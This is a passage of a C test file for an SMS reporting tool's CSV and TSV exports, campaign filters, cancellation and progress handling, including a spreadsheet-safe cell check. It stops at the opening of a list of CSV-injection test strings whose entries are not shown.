/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * test-export.c: CSV exports (sr-export) and the CLI's campaign filters and
 * --failed-only.
 *
 * - An export of a filtered, sorted view holds exactly the rows of that view
 *   (count and ids in order, compared with sr_cache_query_messages()), and
 *   reads back with a strict RFC 4180 reader: the sandbox's texts carry
 *   quotes, commas, newlines, Greek and emoji, and must survive.
 * - A cancelled or failed export leaves no file behind and does not touch a
 *   file that was at the destination; a successful one replaces it.
 * - Progress arrives on the main context, starts at 0, grows, ends at the
 *   total, and never after the callback.
 * - sms-reports-cli campaigns --from/--to/--search/--source/--sender and
 *   messages/campaign-messages --failed-only, against the sandbox.
 */

#include "config.h"

#include <gio/gio.h>
#include <glib/gstdio.h>
#include <json-glib/json-glib.h>
#include <sqlite3.h>
#include <string.h>

#include "sr-core.h"
#include "sr-cache-private.h"
#include "sr-campaign-private.h"
#include "sr-message-private.h"
#include "sr-test-sandbox.h"

#define SANDBOX_NOW "2026-03-31T10:00:00Z"

/* --- shared sandbox cache -------------------------------------------------- */

static struct
{
  SrTestSandbox *sandbox;
  char          *dir;
  char          *path;
  SrCache       *cache;
  SrCache       *big;        /* synthetic, for cancelling mid-way */
  char          *big_path;
} shared;

static void
on_ready_cb (GObject      *object,
             GAsyncResult *result,
             gpointer      user_data)
{
  *(GAsyncResult **) user_data = g_object_ref (result);
}

static void
ensure_shared_cache (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(SrApiClient) client = NULL;
  g_autoptr(SrSync) sync = NULL;
  g_autoptr(GAsyncResult) result = NULL;
  SrSyncSummary summary;

  if (shared.cache != NULL)
    return;

  shared.sandbox = sr_test_sandbox_start ("--messages", "20000", "--campaigns", "120",
                                          "--seed", "11", "--now", SANDBOX_NOW, NULL);
  shared.dir = sr_test_make_tmpdir ("test-export");
  shared.path = g_build_filename (shared.dir, "account.db", NULL);
  shared.cache = sr_cache_open (shared.path, &error);
  g_assert_no_error (error);

  client = sr_api_client_new (sr_test_sandbox_get_url (shared.sandbox),
                              sr_test_sandbox_get_url (shared.sandbox),
                              sr_test_sandbox_get_api_key (shared.sandbox), &error);
  g_assert_no_error (error);
  sync = sr_sync_new (client, shared.cache);
  sr_sync_set_page_size (sync, 1000);
  sr_sync_set_concurrency (sync, 4);
  sr_sync_run_async (sync, NULL, on_ready_cb, &result);
  while (result == NULL)
    g_main_context_iteration (NULL, TRUE);
  g_assert_true (sr_sync_run_finish (sync, result, &summary, &error));
  g_assert_no_error (error);
  g_assert_cmpint (sr_cache_count_messages (shared.cache, NULL, NULL), ==, 20000);
}

/* Enough rows that an export runs for a while: the cancel test needs to
 * cancel in the middle. Texts with everything CSV must quote. */
static void
ensure_big_cache (void)
{
  static const char * const texts[] = {
    "Plain text",
    "Comma, \"quotes\" and\na newline",
    "Ελληνικά και emoji 📦, με κόμμα",
    "Line one\r\nline two",
  };
  g_autoptr(GError) error = NULL;
  gint64 t0 = G_GINT64_CONSTANT (1772000000) * G_USEC_PER_SEC;
  guint n = 0;

  if (shared.big != NULL)
    return;

  ensure_shared_cache ();
  shared.big_path = g_build_filename (shared.dir, "big.db", NULL);
  shared.big = sr_cache_open (shared.big_path, &error);
  g_assert_no_error (error);

  for (guint batch = 0; batch < 20; batch++)
    {
      g_autoptr(GPtrArray) messages = g_ptr_array_new_with_free_func (g_object_unref);

      for (guint i = 0; i < 5000; i++, n++)
        {
          SrMessage *message = sr_message_new_empty ();

          message->id = g_strdup_printf ("big-%06u", n);
          message->to = g_strdup_printf ("+3579900%04u", n % 10000);
          message->sender_id = g_strdup ("Shop");
          message->message = g_strdup (texts[n % G_N_ELEMENTS (texts)]);
          message->status = n % 7 == 0 ? SR_STATUS_FAILED : SR_STATUS_DELIVERED;
          message->status_raw = g_strdup (sr_status_to_string (message->status));
          message->created_at = t0 + (gint64) n * G_USEC_PER_SEC;
          message->cost = 0.035;
          message->sms_count = 1;
          g_ptr_array_add (messages, message);
        }
      g_assert_true (sr_cache_upsert_messages (shared.big, messages, NULL, NULL, NULL, &error));
      g_assert_no_error (error);
    }
}

static void
free_shared (void)
{
  if (shared.cache != NULL)
    sr_cache_close (shared.cache);
  if (shared.big != NULL)
    sr_cache_close (shared.big);
  g_clear_object (&shared.cache);
  g_clear_object (&shared.big);
  g_clear_pointer (&shared.sandbox, sr_test_sandbox_free);
  if (shared.dir != NULL)
    sr_test_remove_tree (shared.dir);
  g_clear_pointer (&shared.dir, g_free);
  g_clear_pointer (&shared.path, g_free);
  g_clear_pointer (&shared.big_path, g_free);
}

/* --- a strict RFC 4180 reader ---------------------------------------------- */

/* Rows of fields. Fails the test on anything RFC 4180 does not allow: a
 * quote inside an unquoted field, a missing closing quote, a line not ending
 * in CRLF, rows of different lengths. */
static GPtrArray *
parse_csv (const char *text,
           gsize       length)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
  GString *field = g_string_new (NULL);
  const char *p = text;
  const char *end = text + length;

  g_assert_true (g_utf8_validate (text, length, NULL));

  while (p < end)
    {
      if (*p == '"')
        {
          p++;
          for (;;)
            {
              g_assert_true (p < end);
              if (*p == '"' && p + 1 < end && p[1] == '"')
                {
                  g_string_append_c (field, '"');
                  p += 2;
                }
              else if (*p == '"')
                {
                  p++;
                  break;
                }
              else
                g_string_append_c (field, *p++);
            }
        }
      else
        {
          while (p < end && *p != ',' && *p != '\r' && *p != '\n')
            {
              g_assert_true (*p != '"');
              g_string_append_c (field, *p++);
            }
        }

      g_ptr_array_add (row, g_strdup (field->str));
      g_string_truncate (field, 0);

      g_assert_true (p < end);
      if (*p == ',')
        p++;
      else
        {
          g_assert_true (p + 1 < end && p[0] == '\r' && p[1] == '\n');
          p += 2;
          if (rows->len > 0)
            g_assert_cmpuint (row->len, ==, ((GPtrArray *) g_ptr_array_index (rows, 0))->len);
          g_ptr_array_add (rows, row);
          row = g_ptr_array_new_with_free_func (g_free);
        }
    }

  g_assert_cmpuint (row->len, ==, 0);
  g_ptr_array_unref (row);
  g_string_free (field, TRUE);
  return rows;
}

static const char *
cell (GPtrArray *rows,
      guint      row,
      guint      column)
{
  GPtrArray *fields = g_ptr_array_index (rows, row);

  g_assert_cmpuint (column, <, fields->len);
  return g_ptr_array_index (fields, column);
}

static GPtrArray *
read_csv_file (const char *path)
{
  g_autofree char *contents = NULL;
  gsize length;
  g_autoptr(GError) error = NULL;

  g_file_get_contents (path, &contents, &length, &error);
  g_assert_no_error (error);
  return parse_csv (contents, length);
}

enum {
  COL_ID, COL_CREATED_AT, COL_SENT_AT, COL_UPDATED_AT, COL_TO, COL_SENDER_ID, COL_STATUS,
  COL_SMS_COUNT, COL_COST, COL_CAMPAIGN_ID, COL_FAILED_REASON, COL_MESSAGE, COL_LOCAL_TIME,
};

/* What a spreadsheet-safe export holds for a text field: OWASP's rule,
 * written out here independently of sr-csv. */
static char *
safe_cell (const char *value)
{
  if (value == NULL)
    return g_strdup ("");
  if (value[0] == '=' || value[0] == '+' || value[0] == '-' || value[0] == '@' ||
      value[0] == '\t' || value[0] == '\r')
    return g_strconcat ("'", value, NULL);
  return g_strdup (value);
}

static char *
local_time_text (gint64 usec)
{
  g_autoptr(GDateTime) dt = g_date_time_new_from_unix_local (usec / G_USEC_PER_SEC);

  return g_date_time_format (dt, "%Y-%m-%d %H:%M:%S");
}

/* --- running exports ----------------------------------------------------- */

typedef struct
{
  GAsyncResult *result;
  GCancellable *cancellable;
  GArray       *done;          /* gint64: rows_done of every progress call */
  gint64        total;
  gboolean      completed;
  gboolean      destroyed;
  gboolean      cancel_at_first_rows;   /* at the first progress past 10000 rows */
  char         *watch_dir;     /* when cancelling: the folder, to see the temporary file */
  gboolean      saw_partial;
} Run;

static void
run_progress_cb (gint64   rows_done,
                 gint64   rows_total,
                 gpointer user_data)
{
  Run *run = user_data;

  g_assert_false (run->completed);
  g_assert_false (run->destroyed);
  if (run->done->len == 0)
    g_assert_cmpint (rows_done, ==, 0);
  else
    g_assert_cmpint (rows_done, >=, g_array_index (run->done, gint64, run->done->len - 1));
  g_assert_cmpint (rows_done, <=, rows_total);
  g_array_append_val (run->done, rows_done);
  run->total = rows_total;

  /* Once a few buffers (1 MiB, some 4000 rows) must have been written */
  if (run->cancel_at_first_rows && rows_done >= 10000 && !g_cancellable_is_cancelled (run->cancellable))
    {
      g_autoptr(GDir) dir = g_dir_open (run->watch_dir, 0, NULL);
      const char *name;

      /* The rows so far went to a temporary file, not to the destination. */
      while ((name = g_dir_read_name (dir)) != NULL)
        {
          g_autofree char *path = g_build_filename (run->watch_dir, name, NULL);
          GStatBuf st;

          if (g_str_has_prefix (name, ".goutputstream-") && g_stat (path, &st) == 0 && st.st_size > 0)
            run->saw_partial = TRUE;
        }
      g_cancellable_cancel (run->cancellable);
    }
}

static void
run_destroy_cb (gpointer user_data)
{
  Run *run = user_data;

  g_assert_false (run->completed);
  g_assert_false (run->destroyed);
  run->destroyed = TRUE;
}

static void
run_done_cb (GObject      *object,
             GAsyncResult *result,
             gpointer      user_data)
{
  Run *run = user_data;

  g_assert_true (run->destroyed);
  run->completed = TRUE;
  run->result = g_object_ref (result);
}

static void
run_init (Run *run)
{
  memset (run, 0, sizeof *run);
  run->cancellable = g_cancellable_new ();
  run->done = g_array_new (FALSE, FALSE, sizeof (gint64));
}

static void
run_clear (Run *run)
{
  g_clear_object (&run->result);
  g_clear_object (&run->cancellable);
  g_clear_pointer (&run->done, g_array_unref);
  g_clear_pointer (&run->watch_dir, g_free);
}

/* Waits for completion, then a little more: no progress may follow. */
static void
run_wait (Run *run)
{
  while (!run->completed)
    g_main_context_iteration (NULL, TRUE);
  while (g_main_context_iteration (NULL, FALSE))
    ;
}

static gint64
export_messages (SrCache               *cache,
                 const SrMessageFilter *filter,
                 SrMessageSort          sort,
                 gboolean               descending,
                 const char            *path,
                 Run                   *run,
                 GError               **error)
{
  g_autoptr(GFile) file = g_file_new_for_path (path);

  sr_export_messages_async (cache, filter, sort, descending, file, SR_CSV_FLAGS_LOCAL_TIME,
                            run->cancellable, run_progress_cb, run, run_destroy_cb,
                            run_done_cb, run);
  run_wait (run);
  return sr_export_messages_finish (cache, run->result, error);
}

/* Every file in dir, for "nothing left behind". */
static guint
count_files (const char *dir)
{
  g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
  guint n = 0;

  while (g_dir_read_name (d) != NULL)
    n++;
  return n;
}

/* --- tests ------------------------------------------------------------------ */

static void
check_view_export (const SrMessageFilter *filter,
                   SrMessageSort          sort,
                   gboolean               descending,
                   guint                 *out_rows)
{
  g_autofree char *dir = sr_test_make_tmpdir ("test-export-view");
  g_autofree char *path = g_build_filename (dir, "messages.csv", NULL);
  g_autoptr(GPtrArray) expected = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GString) header = g_string_new (NULL);
  Run run;
  gint64 n;

  expected = sr_cache_query_messages (shared.cache, filter, sort, descending, -1, 0, &error);
  g_assert_no_error (error);

  run_init (&run);
  n = export_messages (shared.cache, filter, sort, descending, path, &run, &error);
  g_assert_no_error (error);
  g_assert_cmpint (n, ==, expected->len);

  /* Progress: 0 first, the total last */
  g_assert_cmpuint (run.done->len, >=, 2);
  g_assert_cmpint (g_array_index (run.done, gint64, run.done->len - 1), ==, expected->len);
  g_assert_cmpint (run.total, ==, expected->len);
  run_clear (&run);

  rows = read_csv_file (path);
  g_assert_cmpuint (rows->len, ==, expected->len + 1);

  /* The header of sr-csv, with local_time */
  sr_csv_append_message_header (header, SR_CSV_FLAGS_LOCAL_TIME);
  {
    g_autoptr(GPtrArray) header_rows = parse_csv (header->str, header->len);
    GPtrArray *want = g_ptr_array_index (header_rows, 0);
    GPtrArray *got = g_ptr_array_index (rows, 0);

    g_assert_cmpuint (got->len, ==, want->len);
    g_assert_cmpuint (got->len, ==, COL_LOCAL_TIME + 1);
    for (guint i = 0; i < want->len; i++)
      g_assert_cmpstr (g_ptr_array_index (got, i), ==, g_ptr_array_index (want, i));
    g_assert_cmpstr (g_ptr_array_index (got, COL_LOCAL_TIME), ==, "local_time");
  }

  for (guint i = 0; i < expected->len; i++)
    {
      SrMessage *message = g_ptr_array_index (expected, i);
      g_autofree char *created = sr_csv_format_utc (sr_message_get_created_at (message));
      g_autofree char *local = local_time_text (sr_message_get_created_at (message));
      const char *text = sr_message_get_message (message);
      g_autofree char *to = safe_cell (sr_message_get_to (message));
      g_autofree char *safe_text = safe_cell (text);

      g_assert_cmpstr (cell (rows, i + 1, COL_ID), ==, sr_message_get_id (message));
      g_assert_cmpstr (cell (rows, i + 1, COL_CREATED_AT), ==, created);
      /* Recipients start with + in the sandbox: text, not a formula */
      g_assert_cmpstr (cell (rows, i + 1, COL_TO), ==, to);
      g_assert_cmpstr (cell (rows, i + 1, COL_STATUS), ==, sr_message_get_status_raw (message));
      g_assert_cmpstr (cell (rows, i + 1, COL_MESSAGE), ==, safe_text);
      g_assert_cmpstr (cell (rows, i + 1, COL_LOCAL_TIME), ==, local);
      g_assert_cmpfloat_with_epsilon (g_ascii_strtod (cell (rows, i + 1, COL_COST), NULL),
                                      sr_message_get_cost (message), 1e-9);
    }

  /* Byte for byte what sr_csv_append_message() writes for those rows */
  {
    g_autoptr(GString) csv = g_string_new (NULL);
    g_autofree char *contents = NULL;
    gsize length;

    sr_csv_append_message_header (csv, SR_CSV_FLAGS_LOCAL_TIME);
    for (guint i = 0; i < expected->len; i++)
      sr_csv_append_message (csv, g_ptr_array_index (expected, i), SR_CSV_FLAGS_LOCAL_TIME);
    g_file_get_contents (path, &contents, &length, &error);
    g_assert_no_error (error);
    g_assert_cmpuint (length, ==, csv->len);
    g_assert_true (memcmp (contents, csv->str, length) == 0);
  }

  /* Nothing else in the folder */
  g_assert_cmpuint (count_files (dir), ==, 1);
  sr_test_remove_tree (dir);

  if (out_rows != NULL)
    *out_rows = expected->len;
}

static void
test_view (void)
{
  g_autoptr(SrMessageFilter) all = sr_message_filter_new ();
  g_autoptr(SrMessageFilter) commas = sr_message_filter_new ();
  g_autoptr(SrMessageFilter) failed = sr_message_filter_new ();
  g_autoptr(GPtrArray) tricky = NULL;
  gboolean newline = FALSE, quote = FALSE, comma = FALSE, greek = FALSE;
  guint n;

  ensure_shared_cache ();

  /* The texts must really hold what a CSV writer gets wrong. */
  tricky = sr_cache_query_messages (shared.cache, NULL, SR_MESSAGE_SORT_CREATED, FALSE, 2000, 0, NULL);
  for (guint i = 0; i < tricky->len; i++)
    {
      const char *text = sr_message_get_message (g_ptr_array_index (tricky, i));

      newline |= text != NULL && strchr (text, '\n') != NULL;
      quote |= text != NULL && strchr (text, '"') != NULL;
      comma |= text != NULL && strchr (text, ',') != NULL;
      greek |= text != NULL && strstr (text, "Ο κωδικός") != NULL;
    }
  g_assert_true (newline && quote && comma && greek);

  /* Everything, newest first */
  check_view_export (all, SR_MESSAGE_SORT_CREATED, TRUE, &n);
  g_assert_cmpuint (n, ==, 20000);

  /* Texts with a comma, most expensive first */
  commas->search = g_strdup (",");
  check_view_export (commas, SR_MESSAGE_SORT_COST, TRUE, &n);
  g_assert_cmpuint (n, >, 100);

  /* What did not arrive in the last 30 days, by recipient */
  failed->status_mask = sr_status_not_arrived_mask ();
  failed->to = G_GINT64_CONSTANT (1774951200) * G_USEC_PER_SEC;
  failed->from = failed->to - 30 * G_TIME_SPAN_DAY;
  check_view_export (failed, SR_MESSAGE_SORT_RECIPIENT, FALSE, &n);
  g_assert_cmpuint (n, >, 100);

  /* An empty view: the header alone */
  {
    g_autoptr(SrMessageFilter) none = sr_message_filter_new ();

    none->sender_id = g_strdup ("no such sender");
    check_view_export (none, SR_MESSAGE_SORT_CREATED, FALSE, &n);
    g_assert_cmpuint (n, ==, 0);
  }
}

/* A campaign's messages that did not arrive: FAILED, EXPIRED, REJECTED,
 * UNSUBSCRIBED and unknown statuses such as UNDELIVERED. */
static void
test_not_arrived (void)
{
  g_autoptr(SrMessageFilter) filter = sr_message_filter_new ();
  g_autoptr(GPtrArray) messages = NULL;
  guint mask = sr_status_not_arrived_mask ();
  gboolean saw_unknown = FALSE;

  g_assert_true (mask & (1u << SR_STATUS_FAILED));
  g_assert_true (mask & (1u << SR_STATUS_EXPIRED));
  g_assert_true (mask & (1u << SR_STATUS_REJECTED));
  g_assert_true (mask & (1u << SR_STATUS_UNSUBSCRIBED));
  g_assert_true (mask & (1u << SR_STATUS_UNKNOWN));
  g_assert_false (mask & (1u << SR_STATUS_DELIVERED));
  g_assert_false (mask & (1u << SR_STATUS_SENT));
  g_assert_false (mask & (1u << SR_STATUS_SENDING));
  g_assert_false (mask & (1u << SR_STATUS_QUEUED));
  g_assert_false (mask & (1u << SR_STATUS_SCHEDULED));

  ensure_shared_cache ();
  filter->status_mask = mask;
  messages = sr_cache_query_messages (shared.cache, filter, SR_MESSAGE_SORT_CREATED, FALSE, -1, 0, NULL);
  g_assert_cmpuint (messages->len, >, 0);
  for (guint i = 0; i < messages->len; i++)
    {
      const char *raw = sr_message_get_status_raw (g_ptr_array_index (messages, i));

      g_assert_true (g_str_equal (raw, "FAILED") || g_str_equal (raw, "EXPIRED") ||
                     g_str_equal (raw, "REJECTED") || g_str_equal (raw, "UNSUBSCRIBED") ||
                     g_str_equal (raw, "UNDELIVERED"));
      saw_unknown |= g_str_equal (raw, "UNDELIVERED");
    }
  g_assert_true (saw_unknown);
}

static void
check_cancelled_export (gboolean pre_existing)
{
  g_autofree char *dir = sr_test_make_tmpdir ("test-export-cancel");
  g_autofree char *path = g_build_filename (dir, "export.csv", NULL);
  g_autoptr(GError) error = NULL;
  const char *precious = "my own notes, not an export\n";
  Run run;
  gint64 n;

  if (pre_existing)
    {
      g_file_set_contents (path, precious, -1, &error);
      g_assert_no_error (error);
    }

  run_init (&run);
  run.cancel_at_first_rows = TRUE;
  run.watch_dir = g_strdup (dir);
  n = export_messages (shared.big, NULL, SR_MESSAGE_SORT_CREATED, FALSE, path, &run, &error);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_cmpint (n, ==, -1);
  g_clear_error (&error);

  /* It was cancelled in the middle: rows had been written somewhere. */
  g_assert_true (run.saw_partial);
  g_assert_cmpint (g_array_index (run.done, gint64, run.done->len - 1), <, 100000);
  run_clear (&run);

  if (pre_existing)
    {
      g_autofree char *contents = NULL;

      g_file_get_contents (path, &contents, NULL, &error);
      g_assert_no_error (error);
      g_assert_cmpstr (contents, ==, precious);
      g_assert_cmpuint (count_files (dir), ==, 1);
    }
  else
    {
      g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
      g_assert_cmpuint (count_files (dir), ==, 0);
    }

  /* The same export, not cancelled, replaces the file. */
  run_init (&run);
  n = export_messages (shared.big, NULL, SR_MESSAGE_SORT_CREATED, FALSE, path, &run, &error);
  g_assert_no_error (error);
  g_assert_cmpint (n, ==, 100000);
  g_assert_cmpint (run.total, ==, 100000);
  g_assert_cmpuint (run.done->len, >=, 2);
  run_clear (&run);
  {
    g_autoptr(GPtrArray) rows = read_csv_file (path);

    g_assert_cmpuint (rows->len, ==, 100001);
    g_assert_cmpstr (cell (rows, 1, COL_ID), ==, "big-000000");
    g_assert_cmpstr (cell (rows, 2, COL_MESSAGE), ==, "Comma, \"quotes\" and\na newline");
    g_assert_cmpstr (cell (rows, 3, COL_MESSAGE), ==, "Ελληνικά και emoji 📦, με κόμμα");
    g_assert_cmpstr (cell (rows, 4, COL_MESSAGE), ==, "Line one\r\nline two");
    g_assert_cmpstr (cell (rows, 100000, COL_ID), ==, "big-099999");
  }
  g_assert_cmpuint (count_files (dir), ==, 1);

  sr_test_remove_tree (dir);
}

static void
test_cancel (void)
{
  ensure_big_cache ();

  check_cancelled_export (FALSE);
  check_cancelled_export (TRUE);

  /* Cancelled before it starts */
  {
    g_autofree char *dir = sr_test_make_tmpdir ("test-export-cancel");
    g_autofree char *path = g_build_filename (dir, "export.csv", NULL);
    g_autoptr(GError) error = NULL;
    Run run;

    run_init (&run);
    g_cancellable_cancel (run.cancellable);
    g_assert_cmpint (export_messages (shared.big, NULL, SR_MESSAGE_SORT_CREATED, FALSE, path, &run, &error), ==, -1);
    g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
    g_assert_cmpuint (run.done->len, ==, 0);
    run_clear (&run);
    g_assert_cmpuint (count_files (dir), ==, 0);
    sr_test_remove_tree (dir);
  }
}

static void
test_errors (void)
{
  g_autofree char *dir = NULL;
  g_autofree char *missing = NULL;
  g_autoptr(GError) error = NULL;
  Run run;

  ensure_shared_cache ();
  dir = sr_test_make_tmpdir ("test-export-errors");

  /* A folder that does not exist */
  missing = g_build_filename (dir, "no", "such", "folder.csv", NULL);
  run_init (&run);
  g_assert_cmpint (export_messages (shared.cache, NULL, SR_MESSAGE_SORT_CREATED, FALSE, missing, &run, &error), ==, -1);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  g_clear_error (&error);
  run_clear (&run);

  /* A folder in the way */
  run_init (&run);
  g_assert_cmpint (export_messages (shared.cache, NULL, SR_MESSAGE_SORT_CREATED, FALSE, dir, &run, &error), ==, -1);
  g_assert_nonnull (error);
  g_assert_true (error->domain == G_IO_ERROR);
  g_clear_error (&error);
  run_clear (&run);

  g_assert_cmpuint (count_files (dir), ==, 0);
  sr_test_remove_tree (dir);
}

static void
test_blocking (void)
{
  g_autofree char *dir = NULL;
  g_autofree char *path = NULL;
  g_autoptr(GFile) file = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(SrMessageFilter) filter = sr_message_filter_new ();
  g_autoptr(GPtrArray) rows = NULL;
  gint64 n;

  ensure_shared_cache ();
  dir = sr_test_make_tmpdir ("test-export-blocking");
  path = g_build_filename (dir, "bank.csv", NULL);
  file = g_file_new_for_path (path);

  filter->sender_id = g_strdup ("Bank");
  n = sr_export_messages (shared.cache, filter, SR_MESSAGE_SORT_CREATED, FALSE, file,
                          SR_CSV_FLAGS_NONE, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (n, ==, sr_cache_count_messages (shared.cache, filter, NULL));
  rows = read_csv_file (path);
  g_assert_cmpuint (rows->len, ==, n + 1);
  g_assert_cmpuint (((GPtrArray *) g_ptr_array_index (rows, 0))->len, ==, COL_MESSAGE + 1);

  sr_test_remove_tree (dir);
}

static void
test_campaigns (void)
{
  g_autofree char *dir = NULL;
  g_autofree char *path = NULL;
  g_autoptr(GFile) file = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(SrCampaignFilter) filter = sr_campaign_filter_new ();
  g_autoptr(GPtrArray) expected = NULL;
  g_autoptr(GPtrArray) all = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GAsyncResult) result = NULL;
  static const char * const columns[] = {
    "id", "created_at", "sender_id", "source", "status", "recipients", "delivered", "sent",
    "pending", "failed", "delivery_rate", "cost", "message", "local_time",
  };
  gint64 n;

  ensure_shared_cache ();
  dir = sr_test_make_tmpdir ("test-export-campaigns");
  path = g_build_filename (dir, "campaigns.csv", NULL);
  file = g_file_new_for_path (path);

  /* API campaigns, the biggest first */
  filter->source = SR_CAMPAIGN_SOURCE_API;
  expected = sr_cache_query_campaigns (shared.cache, filter, SR_CAMPAIGN_SORT_RECIPIENTS,
                                                TRUE, -1, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (expected->len, >, 0);

  /* Independent: every campaign, filtered by hand */
  all = sr_cache_query_campaigns (shared.cache, NULL, SR_CAMPAIGN_SORT_CREATED, FALSE, -1, 0, &error);
  g_assert_no_error (error);
  {
    guint n_api = 0;

    for (guint i = 0; i < all->len; i++)
      n_api += sr_campaign_get_is_api (g_ptr_array_index (all, i)) ? 1 : 0;
    g_assert_cmpuint (n_api, ==, expected->len);
    g_assert_cmpuint (n_api, <, all->len);
  }

  sr_export_campaigns_async (shared.cache, filter, SR_CAMPAIGN_SORT_RECIPIENTS, TRUE, file,
                             SR_CSV_FLAGS_LOCAL_TIME, NULL, NULL, NULL, NULL, on_ready_cb, &result);
  while (result == NULL)
    g_main_context_iteration (NULL, TRUE);
  n = sr_export_campaigns_finish (shared.cache, result, &error);
  g_assert_no_error (error);
  g_assert_cmpint (n, ==, expected->len);

  rows = read_csv_file (path);
  g_assert_cmpuint (rows->len, ==, expected->len + 1);
  for (guint c = 0; c < G_N_ELEMENTS (columns); c++)
    g_assert_cmpstr (cell (rows, 0, c), ==, columns[c]);
  for (guint i = 0; i < expected->len; i++)
    {
      SrCampaign *campaign = g_ptr_array_index (expected, i);
      g_autofree char *recipients = g_strdup_printf ("%" G_GINT64_FORMAT, sr_campaign_get_recipients (campaign));
      g_autofree char *local = local_time_text (sr_campaign_get_created_at (campaign));
      const char *text = sr_campaign_get_message (campaign);

      g_assert_cmpstr (cell (rows, i + 1, 0), ==, sr_campaign_get_id (campaign));
      g_assert_cmpstr (cell (rows, i + 1, 3), ==, "API");
      g_assert_cmpstr (cell (rows, i + 1, 5), ==, recipients);
      g_assert_cmpstr (cell (rows, i + 1, 12), ==, text != NULL ? text : "");
      g_assert_cmpstr (cell (rows, i + 1, 13), ==, local);
    }

  g_assert_cmpuint (count_files (dir), ==, 1);
  sr_test_remove_tree (dir);
}

static void
test_campaign_filter (void)
{
  g_autoptr(GPtrArray) all = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(SrCampaignFilter) filter = sr_campaign_filter_new ();
  SrCampaign *middle;

  ensure_shared_cache ();
  all = sr_cache_query_campaigns (shared.cache, NULL, SR_CAMPAIGN_SORT_CREATED, FALSE, -1, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (all->len, ==, 120);
  middle = g_ptr_array_index (all, 60);

  /* Several conditions at once; the SQL and the C rules agree */
  filter->from = sr_campaign_get_created_at (middle);
  filter->to = filter->from + 30 * G_TIME_SPAN_DAY;
  filter->sender_id = g_strdup (sr_campaign_get_sender_id (middle));
  filter->source = sr_campaign_get_is_api (middle) ? SR_CAMPAIGN_SOURCE_API : SR_CAMPAIGN_SOURCE_WEB;
  {
    g_autoptr(GPtrArray) found = sr_cache_query_campaigns (shared.cache, filter, SR_CAMPAIGN_SORT_CREATED,
                                                                    FALSE, -1, 0, &error);
    g_autoptr(GArray) rowids = sr_cache_query_campaign_rowids (shared.cache, filter, SR_CAMPAIGN_SORT_CREATED,
                                                                        FALSE, NULL, &error);
    guint k = 0;

    g_assert_no_error (error);
    g_assert_cmpuint (found->len, >, 0);
    g_assert_cmpuint (rowids->len, ==, found->len);
    g_assert_cmpint (sr_cache_count_campaigns (shared.cache, filter, NULL), ==, found->len);
    g_assert_cmpstr (sr_campaign_get_id (g_ptr_array_index (found, 0)), ==, sr_campaign_get_id (middle));
    for (guint i = 0; i < all->len; i++)
      {
        SrCampaign *campaign = g_ptr_array_index (all, i);

        if (!sr_campaign_filter_matches (filter, campaign))
          continue;
        g_assert_cmpuint (k, <, found->len);
        g_assert_cmpstr (sr_campaign_get_id (g_ptr_array_index (found, k)), ==, sr_campaign_get_id (campaign));
        k++;
      }
    g_assert_cmpuint (k, ==, found->len);
  }

  /* Copy, equal, and NULL or "" strings mean no condition */
  {
    g_autoptr(SrCampaignFilter) copy = sr_campaign_filter_copy (filter);
    g_autoptr(SrCampaignFilter) empty = sr_campaign_filter_new ();
    g_autoptr(SrCampaignFilter) blank = sr_campaign_filter_new ();

    g_assert_true (sr_campaign_filter_equal (filter, copy));
    copy->source = SR_CAMPAIGN_SOURCE_ANY;
    g_assert_false (sr_campaign_filter_equal (filter, copy));
    blank->search = g_strdup ("");
    g_assert_true (sr_campaign_filter_equal (empty, blank));
    g_assert_cmpint (sr_cache_count_campaigns (shared.cache, blank, NULL), ==, 120);
    g_assert_cmpint (sr_cache_count_campaigns (shared.cache, NULL, NULL), ==, 120);
  }
}

static void
test_tsv (void)
{
  g_autoptr(GPtrArray) messages = g_ptr_array_new_with_free_func (g_object_unref);
  SrMessage *message = sr_message_new_empty ();
  g_autofree char *tsv = NULL;
  g_auto(GStrv) lines = NULL;
  g_auto(GStrv) fields = NULL;

  message->id = g_strdup ("m-1");
  message->to = g_strdup ("+35799123456");
  message->message = g_strdup ("Tab\there,\nnew \"line\"");
  message->status_raw = g_strdup ("DELIVERED");
  message->status = SR_STATUS_DELIVERED;
  message->created_at = G_GINT64_CONSTANT (1774000000) * G_USEC_PER_SEC;
  message->cost = 0.035;
  message->sms_count = 1;
  g_ptr_array_add (messages, message);

  tsv = sr_export_format_messages_tsv (messages, SR_CSV_FLAGS_LOCAL_TIME, TRUE);
  lines = g_strsplit (tsv, "\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, 3);
  g_assert_cmpstr (lines[2], ==, "");
  g_assert_true (g_str_has_prefix (lines[0], "id\tcreated_at\tsent_at\t"));
  g_assert_true (g_str_has_suffix (lines[0], "\tmessage\tlocal_time"));
  fields = g_strsplit (lines[1], "\t", -1);
  g_assert_cmpuint (g_strv_length (fields), ==, COL_LOCAL_TIME + 1);
  g_assert_cmpstr (fields[COL_ID], ==, "m-1");
  g_assert_cmpstr (fields[COL_CREATED_AT], ==, "2026-03-20T09:46:40Z");
  g_assert_cmpstr (fields[COL_SENT_AT], ==, "");
  g_assert_cmpfloat (g_ascii_strtod (fields[COL_COST], NULL), ==, 0.035);
  g_assert_cmpstr (fields[COL_MESSAGE], ==, "Tab here, new \"line\"");
}

/* Hostile texts (OWASP's CSV injection examples) in every text column of a
 * real export: each becomes text with a leading ', inside quotes, and reads
 * back as exactly ' + the stored value; numbers stay numbers; with
 * SR_CSV_FLAGS_EXACT every field is the stored value. */
static const char * const hostile_texts[] = {
